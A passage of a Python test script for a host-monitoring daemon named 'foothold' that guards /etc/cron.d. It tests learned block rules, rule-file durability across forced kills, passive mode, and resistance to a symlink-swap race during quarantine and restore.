        check(not os.path.lexists(env.host(rem)), "the blocked item is still there")
        pid2, denied = env.write(rem, data, may_deny=True)
        if not denied:
            msg2 = c.alert_at(rem)
            check(not msg2.get("pending"), "the second write was asked again, not decided "
                  "by the learned rule", js(msg2))
        rec = env.wait_log(lambda e: get(e, "file.path") == rem and
                           get(e, "process.pid") == pid2, "the second write's alert")
        check(get(rec, "foothold.decided_by") == "rule" and
              get(rec, "foothold.rule.id") == rid and
              get(rec, "event.outcome") == ("denied" if denied else "quarantined") and
              str(get(rec, "foothold.rule.source", "")).startswith(env.learned + ":"),
              "the second write: decided_by %r rule %r (%r) outcome %r; expected the learned "
              "rule %s" % (get(rec, "foothold.decided_by"), get(rec, "foothold.rule.id"),
                           get(rec, "foothold.rule.source"), get(rec, "event.outcome"), rid),
              js(rec))
        check(not os.path.lexists(env.host(rem)), "the learned block rule left the item")


def check_rules_file(ctx, path):
    """The rules of a rules file that must parse whole: `foothold rules check` when the
    build has it, and the grammar's shape (parse_rules_text) always."""
    text = read_bytes(path).decode("utf-8")
    if ctx.rules_check:
        p = subprocess.run([ctx.foothold, "rules", "check", path], capture_output=True,
                           timeout=20, stdin=subprocess.DEVNULL)
        check(p.returncode == 0, "foothold rules check %s failed (%d)" % (path, p.returncode),
              p.stdout + p.stderr, text[-2000:])
    try:
        return parse_rules_text(text)
    except ValueError as e:
        raise Fail("%s is not whole rules: %s" % (path, e), text[-2000:])


def t_rule_store_crash(ctx, sensor):
    env = Env(ctx, "crash")
    m = marker("cr")
    sent, acked = set(), []
    rng = random.Random()
    iterations = 20
    for it in range(iterations):
        d = env.daemon(sensor).start()
        stop = threading.Event()

        def adder(it=it):
            try:
                c = env.client()
                n = 0
                while not stop.is_set():
                    exe = "/usr/bin/%s-%d-%d" % (m, it, n)
                    n += 1
                    sent.add(exe)
                    rep = c.request("rules.add", text="allow exe=%s type=cron-d" % exe,
                                    timeout=2)
                    if rep["type"] == "rules.add":
                        acked.append(exe)
            except (OSError, Fail, socket.timeout):
                return  # the daemon died under it

        t = threading.Thread(target=adder, daemon=True)
        t.start()
        time.sleep(rng.uniform(0.0, 0.05))
        d.proc.send_signal(signal.SIGKILL)
        d.proc.wait()
        stop.set()
        t.join(5)
        check(not t.is_alive(), "the adding client hangs after the kill")
        if not os.path.exists(env.learned):
            check(not acked, "learned.rules is gone, %d acknowledged rules with it" %
                  len(acked))
            continue
        rules = check_rules_file(ctx, env.learned)
        have = set()
        for action, keys in rules:
            check(action == "allow" and set(keys) == {"exe", "type"} and
                  keys["exe"] in sent and keys["type"] == "cron-d",
                  "iteration %d: learned.rules holds a rule that was never added: %r" %
                  (it, (action, keys)))
            have.add(keys["exe"])
        lost = [x for x in acked if x not in have]
        check(not lost, "iteration %d: %d acknowledged rule(s) lost, e.g. %s" %
              (it, len(lost), lost[:3]))
    temps = [n for n in os.listdir(os.path.dirname(env.learned)) if ".tmp" in n]
    sys.stderr.write("(rule-store-crash: %d kills, %d rules sent, %d acknowledged, %d in "
                     "learned.rules, %d temporary files left by the kills)\n" %
                     (iterations, len(sent), len(acked),
                      len(check_rules_file(ctx, env.learned)), len(temps)))
    check(len(acked) >= iterations // 2, "only %d rules were acknowledged in %d runs: the "
          "kills did not land during writes" % (len(acked), iterations))
    # A leftover temporary file is never read as rules, at start or by rules.list.
    junk = env.learned + ".tmp-424242"
    with open(junk, "w") as f:
        f.write('allow exe="/unterminated')
    with env.daemon(sensor):
        c = env.client()
        lst = c.ok("rules.list")["rules"]
        check(all(r.get("source") == env.learned for r in lst),
              "rules.list shows rules from other files",
              js([r for r in lst if r.get("source") != env.learned][:5]))
        check(len(lst) == len(check_rules_file(ctx, env.learned)),
              "rules.list shows %d rules, learned.rules holds %d" %
              (len(lst), len(check_rules_file(ctx, env.learned))))


def t_passive(ctx, sensor):
    env = Env(ctx, "passive", passive=True)
    m = marker("pa")
    env.rules_file("10-block.rules", "block path=/etc/cron.d/%s*\n" % m)
    with env.daemon(sensor):
        c = env.client()
        c.ok("subscribe")
        check(c.ok("status").get("passive") is True, "status does not say passive")
        rel = "/etc/cron.d/%s-rule" % m
        data = b"* * * * * root /bin/true\n"
        env.write(rel, data)
        rec = env.wait_log(lambda e: get(e, "file.path") == rel, "the alert at %s" % rel)
        check(get(rec, "event.outcome") == "allowed" and
              get(rec, "foothold.passive.outcome") == "blocked" and
              get(rec, "foothold.decided_by") == "rule",
              "passive with a block rule: outcome %r passive.outcome %r decided_by %r" %
              (get(rec, "event.outcome"), get(rec, "foothold.passive.outcome"),
               get(rec, "foothold.decided_by")), js(rec))
        time.sleep(0.2)
        check(read_bytes(env.host(rel)) == data, "passive mode removed or changed the item")
        check(not env.qlist(c), "passive mode quarantined something")
        # A person's block is logged, not done, too.
        rel2 = "/etc/cron.d/other%s" % m
        pid = env.write(rel2, data)
        msg = c.alert_at(rel2)
        check_pending(env, msg, rel2, pid, 30)
        c.ok("decide", alert_id=msg["alert_id"], action="block")
        rec = env.wait_log(lambda e: get(e, "foothold.alert.id") == msg["alert_id"] and
                           get(e, "event.outcome") != "pending", "the decided record")
        check(get(rec, "event.outcome") == "allowed" and
              get(rec, "foothold.passive.outcome") == "blocked" and
              get(rec, "foothold.decided_by") == "user",
              "passive, user block: outcome %r passive.outcome %r decided_by %r" %
              (get(rec, "event.outcome"), get(rec, "foothold.passive.outcome"),
               get(rec, "foothold.decided_by")), js(rec))
        check(read_bytes(env.host(rel2)) == data, "passive mode blocked a user's block")


def t_symlink_race(ctx, sensor):
    """Two cases in one run: quarantine (decide block) and restore, each after R/etc/cron.d
    was swapped for a symlink to a directory outside R."""
    env = Env(ctx, "symlink")
    m = marker("sy")
    outside = os.path.join(env.dir, "outside")
    os.mkdir(outside)
    sym, rst = "/etc/cron.d/sym%s" % m, "/etc/cron.d/rst%s" % m
    mine = b"* * * * * root /bin/true %s\n" % m.encode()
    theirs = b"# outside, not foothold's to touch %s\n" % m.encode()
    results = {}
    with env.daemon(sensor):
        c = env.client()
        c.ok("subscribe")
        env.write(sym, mine)
        env.write(rst, mine + b"#rst\n")
        a_sym, a_rst = c.alert_at(sym)["alert_id"], c.alert_at(rst)["alert_id"]
        c.ok("decide", alert_id=a_rst, action="block")
        c.decided(a_rst)
        q = [e for e in env.qlist(c) if e.get("path") == rst]
        check(len(q) == 1, "the restore case's item was not quarantined", js(env.qlist(c)))
        qid = q[0]["qid"]

        with open(os.path.join(outside, os.path.basename(sym)), "wb") as f:
            f.write(theirs)
        os.rename(env.host("/etc/cron.d"), env.host("/etc/cron.d.moved"))
        os.symlink(outside, env.host("/etc/cron.d"))
        before = sorted(os.listdir(outside))

        def quarantine_case():
            c.ok("decide", alert_id=a_sym, action="block")
            c.decided(a_sym)
            rec = env.wait_log(lambda e: get(e, "foothold.alert.id") == a_sym and
                               get(e, "event.outcome") != "pending", "the decided record")
            o = os.path.join(outside, os.path.basename(sym))
            check(os.path.exists(o) and read_bytes(o) == theirs,
                  "decide block through a symlinked directory removed or changed the "
                  "outside file")
            check(not [e for e in env.qlist(c) if e.get("sha256") in (sha(theirs),)],
                  "the outside file was read into quarantine")
            check(get(rec, "event.outcome") != "quarantined" and
                  isinstance(get(rec, "foothold.respond.error"), str),
                  "the decided record: outcome %r, foothold.respond.error %r" %
                  (get(rec, "event.outcome"), get(rec, "foothold.respond.error")), js(rec))
            check(read_bytes(env.host("/etc/cron.d.moved/" + os.path.basename(sym))) == mine,
                  "the real item (in the moved directory) was changed")

        def restore_case():
            r = c.request("quarantine.restore", qid=qid)
            check(r["type"] == "error", "restore through a symlinked directory was accepted",
                  js(r))
            check(sorted(os.listdir(outside)) == before,
                  "restore wrote into the outside directory: %r" % os.listdir(outside))
            # Once the directory is real again, the entry is still there and restores.
            os.unlink(env.host("/etc/cron.d"))
            os.rename(env.host("/etc/cron.d.moved"), env.host("/etc/cron.d"))
            c.ok("quarantine.restore", qid=qid)
            check(read_bytes(env.host(rst)) == mine + b"#rst\n",
                  "the entry did not restore once the directory was real again")

        for name, fn in (("symlink-race-quarantine", quarantine_case),
                         ("symlink-race-restore", restore_case)):
            try:
                fn()
                results[name] = None
            except (Fail, Skip) as e:
                results[name] = e
    return results


TESTS = [
    ("api-refuses-nonroot", t_api_refuses_nonroot),
    ("pending-then-user-block", t_pending_then_user_block),
    ("revert-modified", t_revert_modified),
    ("default-on-timeout", t_default_on_timeout),
    ("queued-restart", t_queued_restart),
    ("rules-file", t_rules_file),
    ("rules-error", t_rules_error),
    ("rules-api", t_rules_api),
    ("rules-remember", t_rules_remember),
    ("rule-store-crash", t_rule_store_crash),
    ("passive", t_passive),
    ("symlink-race", t_symlink_race),  # two results: -quarantine and -restore
]
CASES = {"api-refuses-nonroot": ["api-refuses-nonroot", "api-refusal-counted"],
         "symlink-race": ["symlink-race-quarantine", "symlink-race-restore"]}


class Ctx:
    def __init__(self, build):
        self.build = os.path.realpath(build)
        self.foothold = os.path.join(self.build, "foothold")
        if not os.access(self.foothold, os.X_OK):
            raise SystemExit("test_decide.py: %s is missing; build first" % self.foothold)
        p = subprocess.run([self.foothold, "rules", "--help"], capture_output=True,
                           stdin=subprocess.DEVNULL, timeout=10)
        self.rules_check = p.returncode == 0 and b"check FILE" in p.stdout + p.stderr
        self.base = os.path.realpath(tempfile.mkdtemp(prefix="fh-decide-", dir="/var/tmp"))
        os.chmod(self.base, 0o755)
        self.daemons = []  # every foothold run of the current test

    def deaths(self):
        """The daemons of the current test that died of a signal other than SIGKILL (which
        only the crash test sends), as (reason, stderr) pairs."""
        out = []
        for d in self.daemons:
            rc = d.proc.poll() if d.proc else None
            if rc is not None and rc < 0 and -rc != signal.SIGKILL:
                out.append(("foothold run died of %s" % signal.Signals(-rc).name,
                            "".join(d.err)[-3000:]))
        return out

    def cleanup(self):
        shutil.rmtree(self.base, ignore_errors=True)


def report(tag, exc):
    """Prints the test's line; returns 1 if it failed."""
    if exc is None:
        print("PASS %s" % tag, flush=True)
        return 0
    if isinstance(exc, Skip):
        print("SKIP %s: %s" % (tag, exc.args[0]), flush=True)
        return 0
    if isinstance(exc, Fail):
        print("FAIL %s: %s" % (tag, exc.args[0]), flush=True)
        sys.stderr.write("--- %s: %s\n" % (tag, exc.args[0]))
        for d in exc.args[1:]:
            if isinstance(d, bytes):
                d = d.decode("utf-8", "replace")
            sys.stderr.write("%s\n" % str(d)[:6000])
        return 1
    print("FAIL %s: %s: %s" % (tag, type(exc).__name__, exc), flush=True)
    sys.stderr.write("--- %s\n%s" % (tag, "".join(
        traceback.format_exception(type(exc), exc, exc.__traceback__))))
    return 1


def main(argv):
    args = argv[1:]
    if not args or args[0] in ("-h", "--help"):
        sys.stderr.write(__doc__)
        return 2
    build, sensors, only_names = args[0], [], []
    i = 1
    while i < len(args):
        if args[i] == "--sensor" and i + 1 < len(args):
            sensors.append(args[i + 1])
        elif args[i] == "--only" and i + 1 < len(args):
            only_names.append(args[i + 1])
        elif args[i] == "--dump":  # run.sh passes its options to every script
            i += 1
            continue
        else:
            sys.stderr.write("test_decide.py: unexpected argument %r\n" % args[i])
            return 2
        i += 2
    if os.geteuid() != 0:
        for s in sensors or ["bpf"]:
            print("SKIP root/%s/decide-all: not root" % s)
        return 0
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(143))
    # A shell without job control starts background jobs with SIGINT ignored, and an
    # ignored signal stays ignored across exec: the daemons must get SIGINT's default.
    signal.signal(signal.SIGINT, signal.default_int_handler)
    os.umask(0o022)
    ctx = Ctx(build)
    failed = 0
    try:
        for sensor in sensors or ["bpf"]:
            for name, fn in TESTS:
                cases = CASES.get(name, [name])
                if only_names and name not in only_names and \
                        not any(n in only_names for n in cases):
                    continue
                t0 = time.monotonic()
                ctx.daemons = []
                try:
                    res = fn(ctx, sensor) or {}
                    res = {n: res.get(n) for n in cases}
                except Exception as e:  # a broken test fails each of its cases
                    res = {n: e for n in cases}
                for why, err in ctx.deaths():
                    for n in cases:
                        if isinstance(res[n], Fail):
                            res[n] = Fail("%s (%s)" % (res[n].args[0], why),
                                          *res[n].args[1:], err)
                        elif res[n] is None:
                            res[n] = Fail(why, err)
                for d in ctx.daemons:
                    d.kill()
                for n in cases:
                    failed += report("root/%s/decide-%s" % (sensor, n), res[n])
                sys.stderr.write("(decide-%s/%s took %.1fs)\n" %
                                 (name, sensor, time.monotonic() - t0))
    finally:
        ctx.cleanup()
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
